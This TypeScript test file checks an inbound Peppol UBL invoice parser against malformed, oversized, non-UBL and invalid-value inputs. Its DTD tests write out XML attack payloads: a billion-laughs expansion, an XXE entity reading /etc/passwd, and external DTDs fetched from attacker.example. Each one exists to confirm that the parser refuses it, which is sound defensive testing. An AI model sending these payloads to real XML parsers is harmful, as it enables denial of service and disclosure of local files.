/// <reference types="vite/client" />
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
// The shared fixture is read in place (../shared), never copied into the repository.
import base from '../../../../../shared/fixtures/peppol/openpeppol_base-example.xml?raw';
import { type ParseReceivedOptions, InboundError, parseReceivedDocument } from './index.js';

const utf8Bytes = (text: string) => new TextEncoder().encode(text).length;
const INVOICE_NS = 'urn:oasis:names:specification:ubl:schema:xsd:Invoice-2';

/** The refusal, as the server will see it; fails the test if the input is accepted. */
function refusal(xml: string, options?: ParseReceivedOptions) {
  try {
    parseReceivedDocument(xml, options);
  } catch (error) {
    if (error instanceof InboundError) return { code: error.code, path: error.path };
    throw error;
  }
  throw new Error('accepted');
}

/** base-example with one exact piece of text replaced (the piece must be there). */
function edit(from: string, to: string, xml = base): string {
  if (!xml.includes(from)) throw new Error(`not in the fixture: ${from}`);
  return xml.replace(from, to);
}

const afterDeclaration = (dtd: string) => edit('?>\n', `?>\n${dtd}\n`);

describe('DTDs are refused before parsing', () => {
  it('billion laughs (exponential entity expansion)', () => {
    const entities = Array.from(
      { length: 9 },
      (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`,
    ).join('');
    const xml = afterDeclaration(`<!DOCTYPE Invoice [<!ENTITY lol0 "lol">${entities}]>`).replace(
      '<cbc:Note>',
      '<cbc:Note>&lol9;',
    );
    expect(refusal(xml)).toEqual({ code: 'forbiddenDoctype', path: '' });
  });

  it('quadratic blowup (one large entity referenced many times)', () => {
    const dtd = `<!DOCTYPE Invoice [<!ENTITY a "${'a'.repeat(50_000)}">]>`;
    const xml = edit('<cbc:ID>Snippet1</cbc:ID>', `<cbc:ID>${'&a;'.repeat(50_000)}</cbc:ID>`);
    expect(refusal(edit('?>\n', `?>\n${dtd}\n`, xml)).code).toBe('forbiddenDoctype');
    expect(refusal(`${dtd}${xml.replace(/^<\?xml[^>]*>/, '')}`).code).toBe('forbiddenDoctype');
  });

  it('external entity (XXE) reading a local file', () => {
    const xml = afterDeclaration(
      '<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    ).replace('<cbc:ID>Snippet1</cbc:ID>', '<cbc:ID>&xxe;</cbc:ID>');
    expect(refusal(xml).code).toBe('forbiddenDoctype');
  });

  it('parameter entities and an external DTD', () => {
    expect(
      refusal(
        afterDeclaration(
          '<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
        ),
      ).code,
    ).toBe('forbiddenDoctype');
    expect(
      refusal(afterDeclaration('<!DOCTYPE Invoice SYSTEM "http://attacker.example/x.dtd">')).code,
    ).toBe('forbiddenDoctype');
  });

  it('whatever the spelling or place', () => {
    expect(refusal(afterDeclaration('<!doctype Invoice>')).code).toBe('forbiddenDoctype');
    expect(refusal(afterDeclaration('<! DOCTYPE Invoice>')).code).toBe('forbiddenDoctype');
    expect(refusal(`\uFEFF<!DOCTYPE Invoice>${base.replace(/^<\?xml[^>]*>/, '')}`).code).toBe(
      'forbiddenDoctype',
    );
    // Past the root's start tag a DOCTYPE is malformed anyway; it is still named for what it is.
    expect(refusal(edit('<cbc:Note>', '<!ENTITY x "y"><cbc:Note>', base)).code).toBe(
      'forbiddenDoctype',
    );
  });

  it('an entity reference without any DTD is malformed (never resolved)', () => {
    const xml = edit('<cbc:ID>Snippet1</cbc:ID>', '<cbc:ID>&xxe;</cbc:ID>');
    expect(refusal(xml).code).toBe('malformedXml');
    // The five predefined entities and character references are XML, and are read.
    const ok = edit('<cbc:ID>Snippet1</cbc:ID>', '<cbc:ID>A&amp;B&#x2F;&#49;&lt;</cbc:ID>');
    expect(parseReceivedDocument(ok).number).toBe('A&B/1<');
  });
});

describe('size limits', () => {
  it('refuses input over the byte limit without parsing it', () => {
    expect(refusal(base, { maxBytes: 1000 })).toEqual({ code: 'tooLarge', path: '' });
    // 21 MB against the default 20 MB: even garbage is refused for its size first.
    expect(refusal(`<${'a'.repeat(21 * 1024 * 1024)}`).code).toBe('tooLarge');
  });

  it('counts UTF-8 bytes, not characters', () => {
    const bytes = utf8Bytes(base);
    expect(parseReceivedDocument(base, { maxBytes: bytes }).number).toBe('Snippet1');
    const accented = edit('item name 2', 'é'.repeat(100));
    const accentedBytes = utf8Bytes(accented);
    expect(accented.length).toBeLessThan(accentedBytes - 50);
    expect(refusal(accented, { maxBytes: accentedBytes - 1 }).code).toBe('tooLarge');
    expect(parseReceivedDocument(accented, { maxBytes: accentedBytes }).lines[1]?.itemName).toBe(
      'é'.repeat(100),
    );
  });

  it('bounds elements and nesting, whatever the byte size', () => {
    expect(refusal(base, { maxElements: 50 }).code).toBe('tooLarge');
    const deep = `${'<cbc:X>'.repeat(100)}${'</cbc:X>'.repeat(100)}`;
    expect(refusal(edit('<cbc:Note>', `${deep}<cbc:Note>`, base)).code).toBe('tooLarge');
  });
});

describe('not well-formed', () => {
  it.each([
    ['empty input', ''],
    ['blanks only', '  \n '],
    ['plain text', 'this is not XML'],
    ['JSON', '{"invoice": 1}'],
    ['truncated in the middle', base.slice(0, Math.floor(base.length / 2))],
    ['truncated before the end tag', base.slice(0, base.lastIndexOf('</Invoice>'))],
    ['mismatched end tag', edit('</cbc:IssueDate>', '</cbc:DueDate>')],
    ['duplicate attribute', edit('unitCode="DAY"', 'unitCode="DAY" unitCode="DAY"')],
    ['two roots', `${base}<Invoice xmlns="${INVOICE_NS}"/>`],
    ['text after the root', `${base}trailing`],
    ['unbound prefix', edit('<cbc:Note>', '<foo:Note>x</foo:Note><cbc:Note>')],
    ['a control character', edit('Snippet1</cbc:ID>', 'Snippet\u00011</cbc:ID>')],
  ])('%s', (_, xml) => {
    expect(refusal(xml).code).toBe('malformedXml');
  });

  it('bytes instead of a decoded string', () => {
    const bytes: unknown = new TextEncoder().encode(base);
    expect(refusal(bytes as string).code).toBe('malformedXml');
  });

  it('an HTML page with its DOCTYPE', () => {
    expect(refusal('<!DOCTYPE html><html><head><title>x</title></head></html>').code).toBe(
      'forbiddenDoctype',
    );
  });

  it('an XML declaration that is not at the start', () => {
    expect(refusal(`<!-- c -->${base}`).code).toBe('malformedXml');
  });
});

describe('not a UBL invoice or credit note', () => {
  it.each([
    ['XHTML', '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'],
    // Refused at its root's start tag: the rest (here not even XML) is never read.
    ['HTML', '<html><body><p>Invoice<br></p></body></html>'],
    [
      'a UBL Order',
      '<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"><cbc:ID>1</cbc:ID></Order>',
    ],
    ['a namespace-less Invoice', edit(` xmlns="${INVOICE_NS}"`, '')],
    [
      'an Invoice in the CreditNote namespace',
      edit(INVOICE_NS, 'urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2'),
    ],
    ['an Invoice in the UBL 2.0 namespace of another', edit(INVOICE_NS, `${INVOICE_NS}x`)],
    [
      'a CreditNote root in the Invoice namespace',
      edit('<Invoice ', '<CreditNote ').replace('</Invoice>', '</CreditNote>'),
    ],
    ['a SOAP envelope', '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"/>'],
  ])('%s', (_, xml) => {
    expect(refusal(xml)).toEqual({ code: 'notUbl', path: '' });
  });
});

describe('bad values and missing fields', () => {
  const totals = '/Invoice/cac:LegalMonetaryTotal';
  it.each([
    ['abc', 'cbc:PayableAmount'],
    ['1,656.25', 'cbc:PayableAmount'],
    ['1656,25', 'cbc:PayableAmount'],
    ['1.6e3', 'cbc:PayableAmount'],
    ['NaN', 'cbc:PayableAmount'],
    ['Infinity', 'cbc:PayableAmount'],
    ['0x10', 'cbc:PayableAmount'],
    ['€ 1656.25', 'cbc:PayableAmount'],
    ['--1', 'cbc:PayableAmount'],
    ['.', 'cbc:PayableAmount'],
    [`1${'0'.repeat(60)}`, 'cbc:PayableAmount'],
  ])('amount %j is invalidAmount with its path', (value) => {
    const xml = edit(
      '<cbc:PayableAmount currencyID="EUR">1656.25</cbc:PayableAmount>',
      `<cbc:PayableAmount currencyID="EUR">${value}</cbc:PayableAmount>`,
    );
    expect(refusal(xml)).toEqual({ code: 'invalidAmount', path: `${totals}/cbc:PayableAmount` });
  });

  it('a line amount, a price, a tax amount', () => {
    expect(refusal(edit('>2800<', '>2 800<'))).toEqual({
      code: 'invalidAmount',
      path: '/Invoice/cac:InvoiceLine[1]/cbc:LineExtensionAmount',
    });
    expect(refusal(edit('>500</cbc:PriceAmount>', '>five hundred</cbc:PriceAmount>'))).toEqual({
      code: 'invalidAmount',
      path: '/Invoice/cac:InvoiceLine[2]/cac:Price/cbc:PriceAmount',
    });
    expect(
      refusal(
        edit('<cbc:TaxableAmount currencyID="EUR">1325<', '<cbc:TaxableAmount currencyID="EUR">x<'),
      ),
    ).toEqual({
      code: 'invalidAmount',
      path: '/Invoice/cac:TaxTotal/cac:TaxSubtotal/cbc:TaxableAmount',
    });
  });

  it('quantities and rates are invalidNumber', () => {
    expect(refusal(edit('>7</cbc:InvoicedQuantity>', '>seven</cbc:InvoicedQuantity>'))).toEqual({
      code: 'invalidNumber',
      path: '/Invoice/cac:InvoiceLine[1]/cbc:InvoicedQuantity',
    });
    expect(
      refusal(edit('<cbc:Percent>25.0</cbc:Percent>', '<cbc:Percent>25%</cbc:Percent>')),
    ).toEqual({
      code: 'invalidNumber',
      path: '/Invoice/cac:AllowanceCharge/cac:TaxCategory/cbc:Percent',
    });
  });

  it('dates, codes and indicators', () => {
    expect(refusal(edit('2017-11-13', '2017-02-30'))).toEqual({
      code: 'invalidDate',
      path: '/Invoice/cbc:IssueDate',
    });
    expect(refusal(edit('2017-11-13', '13/11/2017')).code).toBe('invalidDate');
    expect(refusal(edit('<cbc:DueDate>2017-12-01', '<cbc:DueDate>2017-13-01'))).toEqual({
      code: 'invalidDate',
      path: '/Invoice/cbc:DueDate',
    });
    expect(
      refusal(edit('>EUR</cbc:DocumentCurrencyCode>', '>euro</cbc:DocumentCurrencyCode>')),
    ).toEqual({
      code: 'invalidValue',
      path: '/Invoice/cbc:DocumentCurrencyCode',
    });
    expect(refusal(edit('<cbc:ChargeIndicator>true', '<cbc:ChargeIndicator>yes'))).toEqual({
      code: 'invalidValue',
      path: '/Invoice/cac:AllowanceCharge/cbc:ChargeIndicator',
    });
  });

  it.each([
    ['<cbc:ID>Snippet1</cbc:ID>', '/Invoice/cbc:ID'],
    ['<cbc:ID>Snippet1</cbc:ID>', '/Invoice/cbc:ID', '<cbc:ID> </cbc:ID>'],
    ['<cbc:IssueDate>2017-11-13</cbc:IssueDate>', '/Invoice/cbc:IssueDate'],
    ['<cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>', '/Invoice/cbc:InvoiceTypeCode'],
    [
      '<cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>',
      '/Invoice/cbc:DocumentCurrencyCode',
    ],
    [
      '<cbc:PayableAmount currencyID="EUR">1656.25</cbc:PayableAmount>',
      '/Invoice/cac:LegalMonetaryTotal/cbc:PayableAmount',
    ],
    [
      '<cbc:TaxExclusiveAmount currencyID="EUR">1325</cbc:TaxExclusiveAmount>',
      '/Invoice/cac:LegalMonetaryTotal/cbc:TaxExclusiveAmount',
    ],
    ['<cbc:Name>item name 2</cbc:Name>', '/Invoice/cac:InvoiceLine[2]/cac:Item/cbc:Name'],
    [
      '<cbc:InvoicedQuantity unitCode="DAY">-3</cbc:InvoicedQuantity>',
      '/Invoice/cac:InvoiceLine[2]/cbc:InvoicedQuantity',
    ],
    [
      '<cbc:PriceAmount currencyID="EUR">500</cbc:PriceAmount>',
      '/Invoice/cac:InvoiceLine[2]/cac:Price/cbc:PriceAmount',
    ],
    [
      '<cbc:ChargeIndicator>true</cbc:ChargeIndicator>',
      '/Invoice/cac:AllowanceCharge/cbc:ChargeIndicator',
    ],
    [
      '<cbc:PaymentMeansCode name="Credit transfer">30</cbc:PaymentMeansCode>',
      '/Invoice/cac:PaymentMeans/cbc:PaymentMeansCode',
    ],
  ])('without %s: missingField at %s', (from, expectedPath, to = '') => {
    expect(refusal(edit(from, to))).toEqual({ code: 'missingField', path: expectedPath });
  });

  it('without a party, the monetary totals, the lines, or a party name', () => {
    const cut = (xml: string, tag: string) =>
      xml.replace(new RegExp(`<${tag}>[\\s\\S]*?</${tag}>`, 'g'), '');
    expect(refusal(cut(base, 'cac:AccountingSupplierParty'))).toEqual({
      code: 'missingField',
      path: '/Invoice/cac:AccountingSupplierParty/cac:Party',
    });
    expect(refusal(cut(base, 'cac:AccountingCustomerParty')).path).toBe(
      '/Invoice/cac:AccountingCustomerParty/cac:Party',
    );
    expect(refusal(cut(base, 'cac:LegalMonetaryTotal')).path).toBe(
      '/Invoice/cac:LegalMonetaryTotal',
    );
    expect(refusal(cut(base, 'cac:InvoiceLine'))).toEqual({
      code: 'missingField',
      path: '/Invoice/cac:InvoiceLine',
    });
    const nameless = cut(
      edit('<cbc:RegistrationName>SupplierOfficialName Ltd</cbc:RegistrationName>', ''),
      'cac:PartyName',
    );
    expect(refusal(nameless)).toEqual({
      code: 'missingField',
      path: '/Invoice/cac:AccountingSupplierParty/cac:Party/cac:PartyLegalEntity/cbc:RegistrationName',
    });
  });
});

describe('never a crash', () => {
  const parseOrRefuse = (xml: string) => {
    try {
      parseReceivedDocument(xml);
    } catch (error) {
      if (!(error instanceof InboundError)) throw error;
    }
  };

  it('any cut, deletion or insertion in a real invoice is read or refused with an InboundError', () => {
    fc.assert(
      fc.property(
        fc.nat({ max: base.length }),
        fc.nat({ max: 40 }),
        fc.string({ maxLength: 12 }),
        (at, length, insert) => {
          parseOrRefuse(base.slice(0, at));
          parseOrRefuse(base.slice(0, at) + insert + base.slice(at + length));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('any string at all', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), parseOrRefuse), {
      numRuns: 300,
    });
  });
});
